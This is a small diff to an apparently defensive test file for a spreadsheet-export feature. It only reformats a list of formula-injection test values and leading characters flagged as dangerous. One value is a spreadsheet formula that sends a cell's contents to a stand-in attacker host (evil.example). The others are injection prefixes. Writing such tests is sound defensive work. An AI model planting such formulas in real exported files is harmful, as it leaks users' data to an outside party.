@@ -17,8 +17,16 @@ from wikihowagent.alignment.export import export_sheet  # noqa: E402
 from wikihowagent.alignment.problems import Problems  # noqa: E402
 
 DANGER = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\tcmd", "\r=1",
-           "'=already quoted", "plain title"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\tcmd",
+    "\r=1",
+    "'=already quoted",
+    "plain title",
+]
 
 
 def hostile_runs(root: Path) -> list[Path]:
